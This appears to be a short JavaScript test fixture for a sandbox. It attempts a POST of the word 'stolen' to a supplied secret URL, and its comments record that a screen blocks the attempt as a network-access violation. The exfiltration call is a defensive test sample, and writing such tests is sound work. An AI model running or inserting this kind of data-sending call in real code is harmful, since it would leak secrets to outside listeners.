// Tries: to send a secret to a listener.
// Stopped by: screen; without it: realm, which has no fetch.
// Screened: security_violation/network_access
// Unscreened: error/runtime
const answer = await fetch(input.secret_url, { method: 'POST', body: 'stolen' });
return await answer.text();
